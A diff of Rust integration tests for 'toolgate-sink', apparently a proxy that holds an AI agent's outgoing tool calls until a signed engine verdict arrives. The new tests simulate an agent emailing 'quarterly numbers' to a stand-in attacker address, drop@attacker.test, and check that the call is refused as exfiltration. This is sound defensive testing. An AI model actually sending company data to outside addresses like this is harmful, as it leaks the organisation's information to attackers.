@@ -88,7 +88,10 @@ fn traffic(sink: &mut Sink, calls: usize, tag: &str) {
         .expect("listing");
     for i in 0..calls {
         let args = json!({"query": format!("{tag} {i}")});
-        match sink.before_call("search", args.as_object().unwrap()).expect("call") {
+        match sink
+            .before_call("search", args.as_object().unwrap())
+            .expect("call")
+        {
             Verdict::Forward { call_id } => {
                 let result = json!({"content": [{"type": "text", "text": format!("hit {i}")}]});
                 sink.after_result(&call_id, result.as_object().unwrap())
@@ -191,12 +194,7 @@ fn a_full_spool_drops_counts_and_reports_once_the_broker_is_back() {
     let cluster = cluster();
     let brokers = cluster.bootstrap_servers();
     let dir = tempfile::tempdir().expect("tempdir");
-    let config = config(
-        dir.path(),
-        "agent-k3",
-        15_000,
-        "spool_max_bytes = 1048576",
-    );
+    let config = config(dir.path(), "agent-k3", 15_000, "spool_max_bytes = 1048576");
     cluster.broker_down(1).expect("down");
     let mut sink = Sink::with_brokers(&config, "crm", Some(&brokers)).expect("sink");
     // About 400 bytes an event: 6,000 events are more than 1 MiB.
@@ -311,13 +309,20 @@ fn signed_decisions_for_this_agent_are_applied_and_forged_ones_ignored() {
     };
     assert_eq!(refused["isError"], true);
     let text = refused["content"][0]["text"].as_str().unwrap();
-    assert!(text.contains("exfiltration to an external address"), "{text}");
+    assert!(
+        text.contains("exfiltration to an external address"),
+        "{text}"
+    );
     sink.close().expect("close");
 
     // The engine's producer and the sink agree on where an agent's decisions live.
     let decisions = read_all(&brokers, "toolgate.decisions", 3);
     for (partition, key, _) in &decisions {
-        assert_eq!(*partition, partition_for(key.as_bytes(), PARTITIONS), "{key}");
+        assert_eq!(
+            *partition,
+            partition_for(key.as_bytes(), PARTITIONS),
+            "{key}"
+        );
     }
     assert_eq!(partitions.len(), 2);
 }
@@ -337,7 +342,15 @@ fn proxy(dir: &Path, brokers: &str) -> std::process::Child {
     std::process::Command::new(env!("CARGO_BIN_EXE_toolgate-sink"))
         .args(["stdio", "--config"])
         .arg(&config)
-        .args(["--brokers", brokers, "--server", "files", "--", "python3", fixture])
+        .args([
+            "--brokers",
+            brokers,
+            "--server",
+            "files",
+            "--",
+            "python3",
+            fixture,
+        ])
         .stdin(std::process::Stdio::piped())
         .stdout(std::process::Stdio::piped())
         .spawn()
@@ -402,7 +415,10 @@ fn a_proxy_killed_while_the_broker_is_down_loses_nothing_after_a_restart() {
         .map(|(_, _, v)| v["arguments"]["text"].as_str().unwrap_or("").to_string())
         .collect();
     let mut seen = std::collections::BTreeSet::new();
-    let first_occurrences: Vec<String> = texts.into_iter().filter(|t| seen.insert(t.clone())).collect();
+    let first_occurrences: Vec<String> = texts
+        .into_iter()
+        .filter(|t| seen.insert(t.clone()))
+        .collect();
     let mut expected: Vec<String> = (0..20).map(|i| format!("killed {i}")).collect();
     expected.extend((0..5).map(|i| format!("restarted {i}")));
     assert_eq!(first_occurrences, expected);
@@ -411,4 +427,235 @@ fn a_proxy_killed_while_the_broker_is_down_loses_nothing_after_a_restart() {
         .filter(|(_, _, v)| v["kind"] == "tool_result")
         .count();
     assert!(results >= 25, "{results} results");
+}
+
+/// A stand-in for the engine's verdict path: reads `toolgate.events` and answers every
+/// call with `await_verdict` and `to` in its arguments: allowed for addresses at
+/// example.com, blocked otherwise. Calls to `post_*` are never answered.
+fn verdict_engine(
+    brokers: String,
+    signer: DecisionSigner,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+) -> std::thread::JoinHandle<usize> {
+    std::thread::spawn(move || {
+        let consumer: BaseConsumer = ClientConfig::new()
+            .set("bootstrap.servers", &brokers)
+            .set("group.id", "engine-stand-in")
+            .set("enable.auto.commit", "false")
+            .set("fetch.wait.max.ms", "10")
+            .set("fetch.error.backoff.ms", "1")
+            .create()
+            .expect("consumer");
+        let mut tpl = TopicPartitionList::new();
+        for p in 0..PARTITIONS {
+            tpl.add_partition_offset(EVENTS, p, Offset::Beginning)
+                .expect("partition");
+        }
+        consumer.assign(&tpl).expect("assign");
+        let producer: BaseProducer = ClientConfig::new()
+            .set("bootstrap.servers", &brokers)
+            .set("partitioner", PARTITIONER)
+            .set("linger.ms", "0")
+            .create()
+            .expect("producer");
+        let mut answered = 0;
+        while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+            producer.poll(Duration::ZERO);
+            let Some(Ok(m)) = consumer.poll(Duration::from_millis(20)) else {
+                continue;
+            };
+            let event: Value = serde_json::from_slice(m.payload().unwrap_or_default()).unwrap();
+            if event["await_verdict"] != true
+                || event["tool"].as_str().unwrap().starts_with("post_")
+            {
+                continue;
+            }
+            let to = event["arguments"]["to"].as_str().unwrap_or("");
+            let agent = event["agent_id"].as_str().unwrap().to_string();
+            let mut d = Decision {
+                schema: Default::default(),
+                decision_id: format!("verdict-{}", event["event_id"].as_str().unwrap()),
+                time: Timestamp::now(),
+                expires_at: None,
+                action: if to.ends_with("@example.com") {
+                    DecisionAction::Allow
+                } else {
+                    DecisionAction::Block
+                },
+                scope: Scope {
+                    agent_id: agent.clone(),
+                    session_id: event["session_id"].as_str().map(str::to_string),
+                    server: event["server"].as_str().map(str::to_string),
+                    tool: event["tool"].as_str().map(str::to_string),
+                    call_id: event["call_id"].as_str().map(str::to_string),
+                },
+                reason: format!("{to} is outside the organisation"),
+                finding_ids: vec![],
+                key_id: String::new(),
+                signature: String::new(),
+            };
+            signer.sign(&mut d);
+            let bytes = serde_json::to_vec(&d).unwrap();
+            producer
+                .send(
+                    BaseRecord::to("toolgate.decisions")
+                        .key(&agent)
+                        .payload(&bytes),
+                )
+                .expect("send");
+            // Not flush(): rust-rdkafka's flush waits in steps of 100 ms.
+            while producer.in_flight_count() > 0 {
+                producer.poll(Duration::from_millis(1));
+            }
+            answered += 1;
+        }
+        answered
+    })
+}
+
+const HOLDS: &str = r#"
+[[sink.hold]]
+name = "egress"
+tools = ["send_*"]
+hold_timeout_ms = 10000
+fail_mode = "fail_closed"
+
+[[sink.hold]]
+name = "posts"
+tools = ["post_*"]
+hold_timeout_ms = 300
+fail_mode = "fail_closed"
+"#;
+
+#[test]
+fn held_egress_calls_go_ahead_or_are_refused_on_the_engines_verdict() {
+    let cluster = cluster();
+    let brokers = cluster.bootstrap_servers();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let engine = DecisionSigner::from_seed("engine-1", [11; 32]);
+    let config = config(
+        dir.path(),
+        "agent-k6",
+        10_000,
+        &format!(
+            "\n[sink.decision_keys]\nengine-1 = \"{}\"\n{HOLDS}",
+            engine.public_key_base64()
+        ),
+    );
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let answering = verdict_engine(brokers.clone(), engine, stop.clone());
+    let mut sink = Sink::with_brokers(&config, "mail", Some(&brokers)).expect("sink");
+
+    let send = |sink: &mut Sink, tool: &str, to: &str| {
+        let args = json!({"to": to, "body": "quarterly numbers"});
+        let started = Instant::now();
+        let verdict = sink
+            .before_call(tool, args.as_object().unwrap())
+            .expect("call");
+        (verdict, started.elapsed())
+    };
+    let (allowed, _) = send(&mut sink, "send_email", "cfo@example.com");
+    assert!(matches!(allowed, Verdict::Forward { .. }), "{allowed:?}");
+    let (blocked, _) = send(&mut sink, "send_email", "drop@attacker.test");
+    let Verdict::Refuse { result, .. } = blocked else {
+        panic!("{blocked:?}")
+    };
+    let text = result["content"][0]["text"].as_str().unwrap();
+    // The engine saw the address redacted, as every event leaves the sink.
+    assert!(
+        text.contains("@attacker.test is outside the organisation"),
+        "{text}"
+    );
+
+    // Nobody answers for post_*: after 300 ms, fail_closed refuses.
+    let (unanswered, waited) = send(&mut sink, "post_message", "drop@attacker.test");
+    let Verdict::Refuse { result, .. } = unanswered else {
+        panic!("{unanswered:?}")
+    };
+    assert!(waited >= Duration::from_millis(300), "{waited:?}");
+    let text = result["content"][0]["text"].as_str().unwrap();
+    assert!(text.contains("no verdict within 300 ms"), "{text}");
+
+    sink.close().expect("close");
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    assert_eq!(answering.join().expect("engine"), 2);
+}
+
+#[test]
+fn the_stdio_proxy_holds_an_egress_call_without_holding_up_the_session() {
+    use std::io::{BufRead, Write};
+    let cluster = cluster();
+    let brokers = cluster.bootstrap_servers();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let engine = DecisionSigner::from_seed("engine-1", [12; 32]);
+    let config = dir.path().join("proxy.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[sink]\nagent_id = \"agent-k7\"\nspool_dir = \"{}\"\n\n[sink.decision_keys]\nengine-1 = \"{}\"\n\n[[sink.hold]]\nname = \"egress\"\ntools = [\"echo\"]\nhold_timeout_ms = 10000\n",
+            dir.path().join("spool").display(),
+            engine.public_key_base64()
+        ),
+    )
+    .expect("config");
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let answering = verdict_engine(brokers.clone(), engine, stop.clone());
+    let fixture = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/tests/fixtures/rug_pull_server.py"
+    );
+    let mut proxy = std::process::Command::new(env!("CARGO_BIN_EXE_toolgate-sink"))
+        .args(["stdio", "--config"])
+        .arg(&config)
+        .args([
+            "--brokers",
+            &brokers,
+            "--server",
+            "files",
+            "--",
+            "python3",
+            fixture,
+        ])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("toolgate-sink");
+    let mut stdin = proxy.stdin.take().expect("stdin");
+    let mut stdout = std::io::BufReader::new(proxy.stdout.take().expect("stdout"));
+    let call = |id: u32, to: &str| {
+        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
+            "params": {"name": "echo", "arguments": {"text": "numbers", "to": to}}})
+        .to_string()
+    };
+    // Both held calls and a ping go out at once; the ping is answered first, while
+    // the calls wait for their verdicts.
+    for line in [
+        call(1, "cfo@example.com"),
+        call(2, "drop@attacker.test"),
+        r#"{"jsonrpc":"2.0","id":3,"method":"ping"}"#.to_string(),
+    ] {
+        writeln!(stdin, "{line}").expect("write");
+    }
+    stdin.flush().expect("flush");
+    let mut answers = Vec::new();
+    for _ in 0..3 {
+        let mut line = String::new();
+        stdout.read_line(&mut line).expect("read");
+        answers.push(serde_json::from_str::<Value>(&line).expect("JSON"));
+    }
+    assert_eq!(
+        answers[0]["id"], 3,
+        "the ping is not held behind the calls: {answers:?}"
+    );
+    let by_id = |id: u32| answers.iter().find(|a| a["id"] == id).expect("answered");
+    assert_eq!(by_id(1)["result"]["content"][0]["text"], "numbers");
+    assert_eq!(by_id(2)["result"]["isError"], true);
+    let text = by_id(2)["result"]["content"][0]["text"].as_str().unwrap();
+    assert!(text.contains("outside the organisation"), "{text}");
+
+    drop(stdin);
+    let status = proxy.wait().expect("exit");
+    assert_eq!(status.code(), Some(3));
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    assert_eq!(answering.join().expect("engine"), 2);
 }
